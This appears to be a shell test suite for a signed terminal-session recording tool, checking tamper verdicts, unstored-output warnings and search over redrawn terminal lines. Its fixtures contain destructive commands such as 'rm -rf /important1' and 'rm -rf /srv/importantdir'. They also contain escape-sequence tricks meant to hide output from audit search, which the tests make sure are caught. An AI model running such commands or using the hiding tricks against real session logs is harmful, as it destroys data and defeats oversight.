grep -q '"status": "tampered"' out.txt || tg_fail "info --json - of a file that is no recording: $(cat out.txt err.txt)"
expect 1 sh -c 'cat notrec.tgr | "$1" -c conf info --json -' sh "$R"
grep -q '"status": "tampered"' out.txt || tg_fail "info --json - of a pipe that is no recording: $(cat out.txt err.txt)"
expect 2 sh -c 'head -c 20 good.tgr | "$1" -c conf info --json -' sh "$R"
grep -q '"status": "unsealed"' out.txt || tg_fail "info --json - of a cut header: $(cat out.txt err.txt)"
expect 0 sh -c '"$1" -c conf info --json - <good.tgr' sh "$R"
grep -q '"status": "sealed"' out.txt || tg_fail "info --json - of a good recording: $(cat out.txt err.txt)"
# signed by another key than the investigator's: anyone's key signs any header, so none of it
# is shown as the session's (list shows none either)
expect 1 "$R" -c conf --key other/signing.pub info good.tgr
! grep -q "^user:" out.txt || tg_fail "info shows the header of a recording signed by another key: $(cat out.txt)"
grep -q "SIGNED BY ANOTHER KEY" err.txt && grep -q "nothing verified" err.txt ||
	tg_fail "info of a recording signed by another key: $(cat err.txt)"
expect 1 "$R" -c conf --key other/signing.pub info --json good.tgr
python3 - out.txt <<'PY' || tg_fail "info --json of a recording signed by another key: $(cat out.txt)"
import json, sys
j = json.load(open(sys.argv[1]))
assert j["header"] is None and j["verification"]["status"] == "wrong-key", j
PY
# nor does export --force: a player would show its title, time and terminal as the session's
expect 1 "$R" -c conf --key other/signing.pub --force export --format asciicast good.tgr
python3 - out.txt <<'PY' || tg_fail "export of a recording signed by another key: $(cat out.txt err.txt)"
import json, sys
h = json.loads(open(sys.argv[1]).readline())
assert "title" not in h and "timestamp" not in h and "env" not in h, h
assert h["tollgate"]["header"] is None and h["tollgate"]["verification"] == "WRONG-KEY", h
PY
grep -q "no checkpoint covers its header" err.txt ||
	tg_fail "export of a recording signed by another key: $(cat err.txt)"
expect 2 "$R" -c conf info unsealed.tgr
# the final checkpoint cut off: the END record before it is not verified, so not a fact
head -c $(($(stat -c %s good.tgr) - 100)) good.tgr >cutend.tgr
expect 2 "$R" -c conf info cutend.tgr
if grep -q "^exit status:" out.txt; then tg_fail "info shows an unverified END as the session's end"; fi
grep -q "END record lies past the verified part" out.txt || tg_fail "info cutend: $(cat out.txt)"
# the totals count what verified; the tail after the last checkpoint is said apart, labelled
printf '%s\n' 'out 1000 hello\r\n' 'resize 1100 100 30' 'hidden 1200 4' 'dropped 1300 out 50' \
	'checkpoint 2000' 'out 3000 tail output\r\n' 'in 3100 ls\r' 'err 3200 oops\n' \
	'resize 3300 200 50' 'hidden 3400 6' 'dropped 3500 err 70' 'flush' 'crash' >tail.txt
"$G" script k/signing.key tail.tgr session=$SID <tail.txt || tg_fail "make tail.tgr"
expect 2 "$R" -c conf info tail.tgr
for want in "^duration: *0:00:00.002 so far" "^bytes stored: *out 7, err 0, in 0$" "^bytes dropped: *out 50, err 0, in 0 " \
	"^hidden input: *4 bytes typed with echo off, in 1 records" "^resizes: *1 (last 100x30)$" \
	"^unverified: *UNVERIFIED after byte [0-9]* (not counted above): stored out 13, err 5, in 3; dropped out 0, err 70, in 0; hidden input 6 bytes in 1 records; resizes 1 (last 200x50)$"; do
	grep -q "$want" out.txt || { cat out.txt; tg_fail "info of an unsealed tail lacks /$want/"; }
done
if grep -q "^input:" out.txt; then tg_fail "info: typed input only past the verified part shown as recorded"; fi
expect 2 "$R" -c conf info --json tail.tgr
python3 - out.txt <<'PY' || tg_fail "info --json of an unsealed tail: $(cat out.txt)"
import json, sys
j = json.load(open(sys.argv[1]))
assert j["stored"] == {"out": 7, "err": 0, "in": 0}, j["stored"]
assert j["dropped"] == {"out": 50, "err": 0, "in": 0} and j["resizes"] == 1
assert j["hidden_input"] == {"bytes": 4, "records": 1}
u = j["unverified"]
assert u["from_byte"] == j["verification"]["verified_bytes"]
assert u["stored"] == {"out": 13, "err": 5, "in": 3} and u["dropped"] == {"out": 0, "err": 70, "in": 0}
assert u["hidden_input"] == {"bytes": 6, "records": 1} and u["resizes"] == 1
PY
# output passed on but not stored (a size or rate cap) cannot be searched: no match there is
# no answer, and search says so as cat does (of the part it searched)
expect 2 "$R" -c conf search 'nothing' tail.tgr
grep -q "^tollgate-replay: tail.tgr: 50 bytes of output were passed on but not stored, and not searched (size or rate cap)$" err.txt ||
	tg_fail "search: output not stored not said: $(cat err.txt)"
expect 2 "$R" -c conf --force search 'nothing' tail.tgr
grep -q "tail.tgr: 120 bytes of output were passed on but not stored, and not searched" err.txt ||
	tg_fail "search --force: output not stored not said: $(cat err.txt)"
expect 0 "$R" -c conf search 'nothing' good.tgr
if grep -q "not stored" err.txt; then tg_fail "search: said of a recording with all its output"; fi
# play says so too, as cat does: the output it showed is not all there was
expect 2 "$R" -c conf play tail.tgr
grep -q "^tollgate-replay: tail.tgr: 50 bytes of output were passed on but not stored (size or rate cap)$" err.txt ||
	tg_fail "play: output not stored not said: $(cat err.txt)"
expect 2 "$R" -c conf export --format asciicast tail.tgr
grep -q "^tollgate-replay: tail.tgr: 50 bytes of output were passed on but not stored (size or rate cap)$" err.txt ||
	tg_fail "export: output not stored not said: $(cat err.txt)"
expect 0 "$R" -c conf info --json good.tgr
python3 -c 'import json,sys; assert json.load(open(sys.argv[1]))["unverified"] is None' out.txt ||
	tg_fail "info --json of a sealed recording: an unverified tail"
# ... nor for list: its DURATION is how far the recording verified, not the END's claim
mkdir cutdir && cp cutend.tgr cutdir/ || tg_fail "cutdir"
expect 2 "$R" -c conf verify cutend.tgr
upto=$(sed -n 's/.*UNSEALED: intact up to session time \([0-9:.]*\),.*/\1/p' out.txt)
[ -n "$upto" ] && [ "$upto" != 1:02:03.600 ] || tg_fail "verify cutend: $(cat out.txt)"
expect 2 "$R" -c conf list cutdir
grep -q "^[^ ]* *$upto  *alice .* UNSEALED .*cutdir/cutend.tgr$" out.txt ||
	tg_fail "list cutend: duration not the verified time $upto: $(cat out.txt)"

# --- cat: output bytes exactly; input; the gate
expect 0 "$R" -c conf cat good.tgr
printf 'the pass\033[1mword\033[0m is hunter2 caf\303\251\r\n' >want.txt
grep -qaF "$(cat want.txt)" out.txt || tg_fail "cat lost bytes"
grep -qaF "$(printf 'secret\377\376.txt')" out.txt || tg_fail "cat: invalid UTF-8 not kept byte for byte"
expect 0 "$R" -c conf cat --input good.tgr
grep -q '^ls.\[9 bytes typed with echo off, not recorded\]$' out.txt || tg_fail "cat --input: $(cat out.txt)"
if grep -q "holds no typed input" err.txt; then tg_fail "cat --input: input said missing"; fi
# record_input = no: the recorder only counts input (END "bytes"), so cat --input has
# nothing to print: it says so and how much was typed, and exits with the verdict, as a
# search without matches does
printf 'out 0 $ \nout 1000 ls\\r\\n\ncheckpoint 1200\n' >noin.txt
cp noin.txt noin-cut.txt
printf 'seal 2000 {"reason":"exit","bytes":{"out":8,"err":0,"in":3},"stored":{"out":8,"err":0,"in":0}}\n' >>noin.txt
printf 'crash\n' >>noin-cut.txt
"$G" script k/signing.key noin.tgr <noin.txt || tg_fail "make noin.tgr"
"$G" script k/signing.key noin-cut.tgr <noin-cut.txt || tg_fail "make noin-cut.tgr"
expect 0 "$R" -c conf cat --input noin.tgr
[ ! -s out.txt ] || tg_fail "cat --input without input: $(cat out.txt)"
grep -q "noin.tgr: holds no typed input: its END record counts 3 bytes typed, none stored" err.txt ||
	tg_fail "cat --input without input: not said: $(cat err.txt)"
expect 0 "$R" -c conf search --input 'ls' noin.tgr
grep -q "noin.tgr: holds no typed input: its END record counts 3 bytes typed" err.txt ||
	tg_fail "search --input without input: not said: $(cat err.txt)"
expect 2 "$R" -c conf cat --input noin-cut.tgr
grep -q "noin-cut.tgr: holds no typed input, and no END record was read to count it" err.txt ||
	tg_fail "cat --input, unsealed, without input: $(cat err.txt)"
expect 0 "$R" -c conf cat noin.tgr
if grep -q "typed input" err.txt; then tg_fail "cat (output) spoke of input: $(cat err.txt)"; fi
expect 1 "$R" -c conf cat tampered.tgr
[ ! -s out.txt ] || tg_fail "cat showed a tampered recording"
expect 1 "$R" -c conf --force cat tampered.tgr
grep -q "hunteX2" out.txt || tg_fail "cat --force"
expect 2 "$R" -c conf cat unsealed.tgr
grep -q "hunter2" out.txt || tg_fail "unsealed: verified part missing"
if grep -q "after the last checkpoint" out.txt; then tg_fail "unsealed: unverified tail shown"; fi
expect 2 "$R" -c conf --force cat unsealed.tgr
grep -q "after the last checkpoint" out.txt || tg_fail "unsealed --force: tail missing"

# --- search: matches on text without escapes, with session id and time
expect 0 "$R" -c conf search 'password' good.tgr
[ "$(cat out.txt)" = "$SID 0:00:03.100 good.tgr: the password is hunter2 café" ] ||
	tg_fail "search: $(cat out.txt)"
expect 2 "$R" -c conf search -- '[Pp][Aa][Ss][Ss][Ww][Oo][Rr][Dd]' good.tgr unsealed.tgr
[ "$(wc -l <out.txt)" -eq 3 ] || tg_fail "search count: $(cat out.txt)"
grep -q "^$SID 1:02:03.456 good.tgr: late line: PASSWORD reset$" out.txt || tg_fail "search time: $(cat out.txt)"
expect 0 "$R" -c conf search 'progress 100%' good.tgr
grep -q "0:01:02.000 good.tgr: progress 100%$" out.txt || tg_fail "search: carriage return: $(cat out.txt)"
# a pattern that matches the empty string ('$', '^$', 'x*') matches each line once, as grep
# has it: not at every character of it, and not nowhere ('$' at each line's end)
printf 'out 1000 aab\\r\\n\\r\\nbaa\\r\\n\nseal 2000 {}\n' >empty-re.txt
"$G" script k/signing.key empty-re.tgr session=$SID <empty-re.txt || tg_fail "make empty-re.tgr"
for re in '$:aab  baa' '^$:' 'a*:aab  baa' 'x*|a+:aab  baa'; do
	expect 0 "$R" -c conf search "${re%%:*}" empty-re.tgr
	[ "$(sed "s/^$SID 0:00:00.001 empty-re.tgr: //" out.txt | tr '\n' ' ')" = "${re#*:} " ] ||
		tg_fail "search '${re%%:*}': $(cat out.txt)"
done
# a terminal cell holds a character, not a byte: a backspace steps back over a UTF-8
# character whole, and a character written over another replaces it whole (a spinner, a
# shell's erase of a typed e-acute, a shorter text after a carriage return); what was
# written over is found in the line as it was before (as a character that went: one
# character in place of another with more or fewer bytes is not a change of those after it)
printf '%s\n' 'out 1000 Loading \xe2\xa0\x8b' 'out 2000 \x08\xe2\xa0\x99' 'out 3000 \x08 done\r\n' \
	'out 4000 $ caf\xc3\xa9' 'out 5000 \x08 \x08' 'out 6000 e\r\n' 'out 7000 r\xc3\xa9sum\xc3\xa9\rresume!\r\n' \
	'out 8000 abc\rd\xc3\xa9\r\n' 'out 8500 abcdef\r\xff\r\n' \
	'out 8600 abcdef\r\xe2x\r\n' 'out 8700 \xe2\x82\xac\xe2\x82\xac\r\xc3\xa9\r\n' 'seal 9000 {}' >cells.txt
"$G" script k/signing.key cells.tgr session=$SID <cells.txt || tg_fail "make cells.tgr"
expect 0 "$R" -c conf search '.' cells.tgr
[ "$(cut -d' ' -f2- out.txt | uniq -c | sed 's/^ *//')" = "1 0:00:00.001 cells.tgr: Loading $(printf '\342\240\213')
1 0:00:00.002 cells.tgr: Loading $(printf '\342\240\231')
8 0:00:00.001 cells.tgr: Loading  done
5 0:00:00.003 cells.tgr: Loading  done
1 0:00:00.004 cells.tgr: \$ caf$(printf '\303\251')
1 0:00:00.005 cells.tgr: \$ caf 
5 0:00:00.004 cells.tgr: \$ cafe
1 0:00:00.006 cells.tgr: \$ cafe
2 0:00:00.007 cells.tgr: r$(printf '\303\251')sum$(printf '\303\251')
7 0:00:00.007 cells.tgr: resume!
2 0:00:00.008 cells.tgr: abc
3 0:00:00.008 cells.tgr: d$(printf '\303\251')c
1 0:00:00.008 cells.tgr: abcdef
6 0:00:00.008 cells.tgr: \\xffbcdef
2 0:00:00.008 cells.tgr: abcdef
6 0:00:00.008 cells.tgr: \\xe2xcdef
1 0:00:00.008 cells.tgr: $(printf '\342\202\254\342\202\254')
2 0:00:00.008 cells.tgr: $(printf '\303\251\342\202\254')" ] || tg_fail "search: characters overwritten by bytes: $(cat out.txt)"
# a hostile user cannot hide output from search that play and cat show: a character broken
# off before a 0x9d (whose 0x9d alone would open an 8-bit OSC), an over-long OSC that the
# guard ends at a raw 0x9c, a short one a stray 0x9c ends (an 8-bit terminal ends it there),
# also one inside what would be a UTF-8 character (play and cat in a non-UTF-8 locale end the
# title there, and show the rest)
long=$(head -c 5000 /dev/zero | tr '\0' A)
printf '%s\n' 'out 1000 $ \xe2\x9dx\r\nrm -rf /important1\r\n' \
	"out 2000 \\e]0;$long\\x9crm -rf /important2\\r\\n" \
	'out 3000 \e]0;x\x9crm -rf /important3\r\n' \
	'out 4000 \e]0;\xe4\xb8\x9cTITLEWORD\x07shown\r\n' 'seal 9000 {}' >hide.txt
"$G" script k/signing.key hide.tgr session=$SID <hide.txt || tg_fail "make hide.tgr"
for n in 1 2 3; do
	expect 0 "$R" -c conf search "important$n" hide.tgr
	grep -q "hide.tgr: rm -rf /important$n\$" out.txt || tg_fail "search missed output play shows (case $n): $(cat out.txt)"
done
expect 0 "$R" -c conf search 'shown' hide.tgr
grep -q 'hide.tgr: TITLEWORDshown$' out.txt || tg_fail "search missed the text after a title: $(cat out.txt)"
expect 0 "$R" -c conf search 'TITLEWORD' hide.tgr
grep -q 'hide.tgr: TITLEWORDshown$' out.txt ||
	tg_fail "search missed text that cat shows in a non-UTF-8 locale (a 0x9c inside a character ends the title): $(cat out.txt)"
expect 0 "$R" -c conf search --input '^ls$' good.tgr
grep -q "0:00:01.000" out.txt || tg_fail "search --input: $(cat out.txt)"
# typed input is searched as the line meant: escape sequences (Up arrow, SS3 keys, Alt+key)
# dropped whole, Backspace (DEL, ^H) erasing a character, a UTF-8 one whole, ^U the line;
# after the cursor was moved on a line, an erase is not applied: nothing typed is hidden
cat >typed.txt <<'SCRIPT'
in 1000000 \e[Als -la\r
in 2000000 rm -rf /tmpx\x7f\r
in 3000000 \eOAuptime\r
in 4000000 cat caf\xc3\xa9\x08e\r
in 5000000 oops\x15whoami\r
in 6000000 \e[1;5Cid\ex -u\r
in 7000000 echo ab\e[D\x7f\r
in 8000000 \e[200~pasted\e[201~\x7f\r
seal 9000000 {}
SCRIPT
"$G" script k/signing.key typed.tgr session=$SID <typed.txt || tg_fail "make typed.tgr"
for typed in "1.000:^ls -la\$" "2.000:^rm -rf /tmp\$" "3.000:^uptime\$" "4.000:^cat cafe\$" \
	"5.000:^whoami\$" "6.000:^id -u\$" "7.000:^echo ab\$" "8.000:^paste\$"; do
	expect 0 "$R" -c conf search --input "${typed#*:}" typed.tgr
	[ "$(cat out.txt)" = "$SID 0:00:0${typed%%:*} typed.tgr: $(echo "${typed#*:}" | tr -d '^$')" ] ||
		tg_fail "search --input '${typed#*:}': $(cat out.txt)"
done
expect 0 "$R" -c conf search --input 'tmpx|\[|O|oops|é|1;5C|x -u|~|pasted' typed.tgr
[ ! -s out.txt ] || tg_fail "search --input found what was erased or a key's sequence: $(cat out.txt)"
expect 0 "$R" -c conf search 'alice@web-1' good.tgr
if grep -q '01;32m' out.txt; then tg_fail "search: escapes not stripped"; fi
# a line longer than the terminal is wide goes on on the next row (autowrap): it is still one
# line, searched as one, however narrow the window. Readline at 20 columns fills the row, a
# space wraps to the next, a carriage return goes back to that row's start (not the line's)
# and the rest of the command overwrites the space; an edit goes up a row (CSI A) and right
# (CSI C) within the line, and back down (CSI B); a window resized between two lines changes
# where a row ends for what follows
cat >wrap.txt <<'SCRIPT'
out 1000 $ : rm -rf /srv/impo
out 2000 \x20\r
out 3000 rtantdir\r\n
out 4000 $ : rm -rf /tmp/impo \rrtantdir
out 5000 \r\e[A\e[12Csrv\r\e[B\e[8C\r\n
out 6000 $ : cp /tmp/aaa /srv \r\e[Kbbbb\r\e[A\e[4Cmv\r\n
resize 7000 80 24
out 8000 $ : rm -rf /srv/important\r$ : rm -rf /srv/IMPORTANT\r\n
seal 9000 {}
SCRIPT
"$G" script k/signing.key wrap.tgr session=$SID cols=20 <wrap.txt || tg_fail "make wrap.tgr"
expect 0 "$R" -c conf search 'rm -rf /srv/importantdir' wrap.tgr
[ "$(cat out.txt)" = "$SID 0:00:00.001 wrap.tgr: \$ : rm -rf /srv/importantdir
$SID 0:00:00.004 wrap.tgr: \$ : rm -rf /srv/importantdir" ] ||
	tg_fail "search: a line wrapped at the terminal's width: $(cat out.txt)"
finds '^\$ : mv /tmp/aaa /srvbbbb$' wrap.tgr "wrap.tgr: \$ : mv /tmp/aaa /srvbbbb$" \
	"a wrapped line's first row edited from the second"
finds 'rm -rf /srv/IMPORTANT$' wrap.tgr "0:00:00.008 wrap.tgr: \$ : rm -rf /srv/IMPORTANT$" \
	"a carriage return after the window grew"
# ... resized the other way: 80 columns to 20, between two lines
printf '%s\n' 'out 1000 $ : ls\r\n' 'resize 2000 20 24' 'out 3000 $ : rm -rf /srv/impo \rrtantdir\r\n' \
	'seal 9000 {}' >narrowed.txt
"$G" script k/signing.key narrowed.tgr session=$SID cols=80 <narrowed.txt || tg_fail "make narrowed.tgr"
expect 0 "$R" -c conf search 'importantdir' narrowed.tgr
[ "$(cat out.txt)" = "$SID 0:00:00.003 narrowed.tgr: \$ : rm -rf /srv/importantdir" ] ||
	tg_fail "search: a line wrapped after the window was narrowed: $(cat out.txt)"
# a tab moves to the next tab stop (every 8 columns) over the cells it passes, writing nothing
printf '%s\n' 'out 1000 a\tb\r\n' 'out 2000 abcdefghij\r\tX\r\n' 'seal 9000 {}' >tabs.txt
"$G" script k/signing.key tabs.tgr session=$SID <tabs.txt || tg_fail "make tabs.tgr"
expect 0 "$R" -c conf search '^a {7}b$|abcdefghXj' tabs.tgr
[ "$(cut -d' ' -f4- out.txt)" = "a       b
abcdefghXj" ] || tg_fail "search: a tab: $(cat out.txt)"
# an edit in the middle of a line, as a terminal applies it in the cursor's row, the cursor
# staying: CSI n @ (ICH) inserts n blank cells, the rest of the row moving right (what passes
# its last column is lost); CSI n P (DCH) deletes n cells, the rest moving left; CSI n X (ECH)
# erases n cells. readline draws `rm -rf /srv/impdir`, 3 times Left arrow and `ortant` so; text
# an edit took, or brought together and then erased, is found in the line as it was
printf '%s\n' 'out 1000 $ : rm -rf /srv/impdir\x08\x08\x08\e[1@o\e[1@r\e[1@t\e[1@a\e[1@n\e[1@t\r\n' \
	'out 2000 $ : rm -rf /srv/importantXYdir\x08\x08\x08\x08\x08\x08\e[1P\x08\e[1P\r\n' \
	'out 3000 $ : echo secXret\x08\x08\x08\x08\e[P\r\e[2K\r\n' 'out 4000 $ : echo abcdef\x08\x08\x08\x08\e[2X\r\n' \
	'out 5000 $ : echo /srv/dir\x08\x08\x08\xc2\x9b11@important\r\n' 'seal 9000 {}' >edit.txt
"$G" script k/signing.key edit.tgr session=$SID <edit.txt || tg_fail "make edit.tgr"
finds 'rm -rf /srv/importantdir' edit.tgr "0:00:00.001 edit.tgr: \$ : rm -rf /srv/importantdir$" \
	"an insert in the middle of a line (CSI @)"
finds 'importaXYdir$' edit.tgr "0:00:00.002 edit.tgr: \$ : rm -rf /srv/importaXYdir$" \
	"a delete in the middle of a line (CSI P)"
finds 'secret' edit.tgr "0:00:00.003 edit.tgr: \$ : echo secret$" \
	"text a delete brought together, then erased"
finds '^\$ : echo ab  ef$' edit.tgr "0:00:00.004 edit.tgr: \$ : echo ab  ef$" "an erase of cells (CSI X)"
finds 'important {2}dir$' edit.tgr "0:00:00.005 edit.tgr: \$ : echo /srv/important  dir$" \
	"an insert of 11 cells (U+009B @)"
expect 0 "$R" -c conf search 'impdir|importantXYdir|secXret|abcdef' edit.tgr
[ "$(cut -d' ' -f2- out.txt)" = "0:00:00.001 edit.tgr: \$ : rm -rf /srv/impdir
0:00:00.002 edit.tgr: \$ : rm -rf /srv/importantXYdir
0:00:00.003 edit.tgr: \$ : echo secXret
0:00:00.004 edit.tgr: \$ : echo abcdef" ] || tg_fail "search: the line before an edit of its middle: $(cat out.txt)"
# ... far from the last change of a long line: a version of it was taken around that change
# only (512 bytes either side), and text further away that an edit then took went with no
# version holding it (SECRET, then 600 x, a fix at the end, a delete at the start)
far=$(head -c 600 /dev/zero | tr '\0' x)
printf '%s\n' "out 1000 SECRET$far\\x08\\e[Ky\\r\\e[6P\\r\\n" "out 2000 TOKEN$far\\x08\\e[Ky\\r\\e[5X\\r\\n" \
	'seal 9000 {}' >faredit.txt
"$G" script k/signing.key faredit.tgr session=$SID cols=0 <faredit.txt || tg_fail "make faredit.tgr"
expect 0 "$R" -c conf search 'SECRETx|TOKENx' faredit.tgr
[ "$(cut -d' ' -f2-3 out.txt)" = "0:00:00.001 faredit.tgr:
0:00:00.002 faredit.tgr:" ] || tg_fail "search: text a delete or erase took far from the last change: $(cut -c1-120 out.txt)"
rm -f faredit.txt faredit.tgr
# ... in its row of a line wrapped at the terminal's width (10 columns), as an erase in line
# (CSI K, 1 K, 2 K) is: the other rows keep their cells. A cursor whose wrap is pending (after
# the row's last column was written) is past that column: an edit there changes no cell
printf '%s\n' 'out 1000 0123456789abcdefghij\r\e[2C\e[1K\r\n' 'out 2000 0123456789abcdefghij\r\e[A\e[5C\e[K\r\n' \
	'out 3000 0123456789abcdefghij\r\e[A\e[5C\e[2K\r\n' 'out 4000 0123456789abcdef\r\e[A\e[3C\e[2@XY\r\n' \
	'out 5000 0123456789abcdef\r\e[A\e[3C\e[2P\r\n' 'out 6000 0123456789abcdef\r\e[A\e[3C\e[2X\r\n' \
	'out 7000 0123456789\e[K\e[P\e[X\e[@\r\n' 'out 8000 0123456789abc\e[D\e[1K\r\n' 'seal 9000 {}' >rowedit.txt
"$G" script k/signing.key rowedit.tgr session=$SID cols=10 <rowedit.txt || tg_fail "make rowedit.tgr"
expect 0 "$R" -c conf search '^.*$' rowedit.tgr
[ "$(cut -d' ' -f2- out.txt)" = "0:00:00.001 rowedit.tgr: 0123456789abcdefghij
0:00:00.001 rowedit.tgr: 0123456789   defghij
0:00:00.002 rowedit.tgr: 0123456789abcdefghij
0:00:00.002 rowedit.tgr: 01234     abcdefghij
0:00:00.003 rowedit.tgr: 0123456789abcdefghij
0:00:00.003 rowedit.tgr:           abcdefghij
0:00:00.004 rowedit.tgr: 0123456789abcdef
0:00:00.004 rowedit.tgr: 012XY34567abcdef
0:00:00.005 rowedit.tgr: 0123456789abcdef
0:00:00.005 rowedit.tgr: 01256789  abcdef
0:00:00.006 rowedit.tgr: 0123456789abcdef
0:00:00.006 rowedit.tgr: 012  56789abcdef
0:00:00.007 rowedit.tgr: 0123456789
0:00:00.008 rowedit.tgr: 0123456789abc
0:00:00.008 rowedit.tgr: 0123456789" ] || tg_fail "search: an edit of a wrapped line's row: $(cat out.txt)"
# ... whatever the count (CSI 99999999 @: as far as the row's last column, or with no width
# known, past the most a line holds, 16 KiB; a line longer than that, in pieces, too)
long=$(head -c 2001 /dev/zero | tr '\0' x)
longer=$(head -c 20000 /dev/zero | tr '\0' x)
printf '%s\n' 'out 1000 echo abcdef\x08\x08\x08\x08\e[99999999@Z\r\n' 'out 2000 echo abcdef\x08\x08\x08\x08\e[99999999P\r\n' \
	'out 3000 echo abcdef\x08\x08\x08\x08\e[99999999X\r\n' "out 4000 $long\\r\\e[99999999@hello\\r\\n" \
	"out 5000 $long\\r\\e[99999999P\\e[99999999X\\e[5@bye\\r\\n" \
	"out 6000 $longer\\r\\e[99999999@\\e[99999999P\\e[99999999Xagain\\r\\n" 'seal 9000 {}' >faredit.txt
for cols in 0 80; do
	"$G" script k/signing.key faredit.tgr session=$SID cols=$cols <faredit.txt || tg_fail "make faredit.tgr"
	# no width: the line is one row, all of it moved past its end; 80: its last row, one x
	x=$([ $cols = 0 ] && echo '^' || echo 'x')
	expect 0 "$R" -c conf search "^echo abZ?\$|${x}hello\$|${x}bye\$|again" faredit.tgr
	[ "$(cut -d' ' -f2- out.txt | sed 's/ \.\.\.x*/ /')" = "0:00:00.001 faredit.tgr: echo abZ
0:00:00.002 faredit.tgr: echo ab
0:00:00.003 faredit.tgr: echo ab
0:00:00.004 faredit.tgr: hello
0:00:00.005 faredit.tgr: bye
0:00:00.006 faredit.tgr: again" ] || tg_fail "search: an edit by a huge count at $cols columns: $(cut -c1-120 out.txt)"
done
rm -f faredit.txt faredit.tgr
# bash_typed TERM COLS KEYS...: real bash (readline, which draws with the terminfo of TERM) at
# COLS columns, each KEYS (Python escapes: \x1b[D is Left arrow) typed at a prompt of its own:
# the script of a recording of what it wrote. Typed with `:` first, a command does nothing.
bash_typed() {
	python3 - "$@" <<'PY' || tg_fail "bash in a pty"
import os, pty, select, struct, fcntl, termios, time, sys
term, cols = sys.argv[1], int(sys.argv[2])
typed = [a.encode('latin-1').decode('unicode_escape').encode('latin-1') for a in sys.argv[3:]]
pid, fd = pty.fork()
if pid == 0:
    os.environ.update(TERM=term, PS1='$ ', INPUTRC='/dev/null', HISTFILE='/dev/null')
    os.environ.pop('PROMPT_COMMAND', None)
    os.execvp('bash', ['bash', '--norc', '--noprofile', '-i'])
fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack('HHHH', 24, cols, 0, 0))
out = b''
def until(want, n):
    global out
    end = time.time() + 20
    while out.count(want) < n and time.time() < end:
        if select.select([fd], [], [], 0.1)[0]:
            try:
                d = os.read(fd, 4096)
            except OSError:
                return
            if not d:
                return
            out += d
for n, line in enumerate(typed):  # each at its prompt, when readline reads the keys
    until(b'$ ', n + 1)
    for ch in line:
        os.write(fd, bytes([ch]))
        time.sleep(0.01)
until(b'$ ', len(typed) + 1)
os.write(fd, b'exit\r')
until(b'\x00', 1)  # to the end
os.waitpid(pid, 0)
print('out 1000 ' + ''.join('\\x%02x' % b for b in out))
print('seal 2000 {}')
PY
}
left() { # left N: Left arrow N times, as bash_typed reads it
	printf '\\x1b[D%.0s' $(seq "$1")
}
# real bash at 20 columns, typing a command longer than that; then another, edited in its
# first row (13 times Left arrow, Backspace, XY) from its second: readline goes up a row
# (CSI A) and right (CSI C) to redraw it (where terminfo knows xterm's autowrap, which
# readline's redraw follows)
if command -v bash >/dev/null && command -v python3 >/dev/null && tput -T xterm am 2>/dev/null; then
	bash_typed xterm 20 ': rm -rf /srv/importantdir\r' ": rm -rf /tmp/importantdir$(left 13)\\x7fXY\\r" >bash.txt
	"$G" script k/signing.key bash.tgr session=$SID cols=20 <bash.txt || tg_fail "make bash.tgr"
	finds 'rm -rf /srv/importantdir' bash.tgr "bash.tgr: \$ : rm -rf /srv/importantdir$" \
		"bash's line wrapped at 20 columns (recorded: $(cat bash.txt))"
	finds '/tmXY/importantdir' bash.tgr "bash.tgr: \$ : rm -rf /tmXY/importantdir$" \
		"bash's wrapped line edited (recorded: $(cat bash.txt))"
fi
# real bash editing in the middle of a line, where terminfo has the terminal insert and delete
# cells (ICH, CSI n @; DCH, CSI n P: xterm-256color's ich and dch; xterm's too, but readline
# uses its insert mode instead, smir and rmir): `rm -rf /srv/impdir`, Left
# arrow 3 times and `ortant` is `rm -rf /srv/importantdir` on the screen, as the text after the
# cursor moves right; Backspace and Delete in the middle move it left (in the C locale: in a
# UTF-8 one, readline writes the rest of the line again instead)
if command -v bash >/dev/null && command -v python3 >/dev/null && tput -T xterm-256color ich 1 >/dev/null 2>&1; then
	LC_ALL=C bash_typed xterm-256color 80 ": rm -rf /srv/impdir$(left 3)ortant\\r" \
		": rm -rf /srv/importantXYdir$(left 5)\\x7f\\x7f\\r" \
		": rm -rf /tmp/impoABrtantdir$(left 10)\\x1b[3~\\x1b[3~\\r" >bashedit.txt
	"$G" script k/signing.key bashedit.tgr session=$SID cols=80 <bashedit.txt || tg_fail "make bashedit.tgr"
	finds 'importantdir' bashedit.tgr "bashedit.tgr: \$ : rm -rf /srv/importantdir$" \
		"bash's insert in the middle of a line (recorded: $(cat bashedit.txt))"
	finds 'importaXYdir$' bashedit.tgr "bashedit.tgr: \$ : rm -rf /srv/importaXYdir$" \
		"bash's Backspace in the middle of a line (recorded: $(cat bashedit.txt))"
	finds 'tmp/importantdir$' bashedit.tgr "bashedit.tgr: \$ : rm -rf /tmp/importantdir$" \
		"bash's Delete in the middle of a line (recorded: $(cat bashedit.txt))"
fi
# a long line is cut where it is shown, but around the match: the match is in what is shown
python3 -c "print('out 1000 ' + 'A' * 1000 + ' BEGIN RSA PRIVATE KEY ' + 'B' * 1000 + '\\\\r\\\\n'); print('seal 2000 {}')" >long.txt
"$G" script k/signing.key long.tgr session=$SID <long.txt || tg_fail "make long.tgr"
expect 0 "$R" -c conf search 'BEGIN RSA' long.tgr
grep -q "^$SID 0:00:00.001 long.tgr: \.\.\.A*A BEGIN RSA PRIVATE KEY BB*\.\.\.$" out.txt ||
	tg_fail "search of a long line: the match is not shown: $(cut -c1-200 out.txt)"
[ "$(wc -c <out.txt)" -lt 600 ] || tg_fail "search of a long line: all of it shown"
# a line past the search block's size (256 KiB), written by records of its own time: the
# time of what follows a flush inside a record is still that record's, not a later one's
python3 -c "print('out 1000000 hello\\\\n')
for i in range(4): print('out 5000000 ' + 'x' * 60000)
print('out 5000000 ' + 'x' * 59000 + 'NEEDLE')
print('out 9000000 \\\\n'); print('seal 9000000 {}')" >flushed.txt
"$G" script k/signing.key flushed.tgr session=$SID <flushed.txt || tg_fail "make flushed.tgr"
expect 0 "$R" -c conf search 'NEEDLE' flushed.tgr
grep -q "^$SID 0:00:05.000 flushed.tgr: " out.txt ||
	tg_fail "search: a match after a block flush inside a record has another time: $(cut -c1-80 out.txt)"
# a command's stdout and stderr are two streams, each with its own lines: a stderr line
# written while a stdout line is half done neither splits that line nor joins it
printf 'out 1000 downloading par\nerr 2000 warning: \\e[1mslow\nout 3000 \\e[0mtial file\\n\nerr 4000 \\x20link\\n\nseal 5000 {}\n' >streams.txt
"$G" script k/signing.key streams.tgr session=$SID mode=command command=fetch term= cols=0 rows=0 \
	<streams.txt || tg_fail "make streams.tgr"
expect 0 "$R" -c conf search 'partial file' streams.tgr
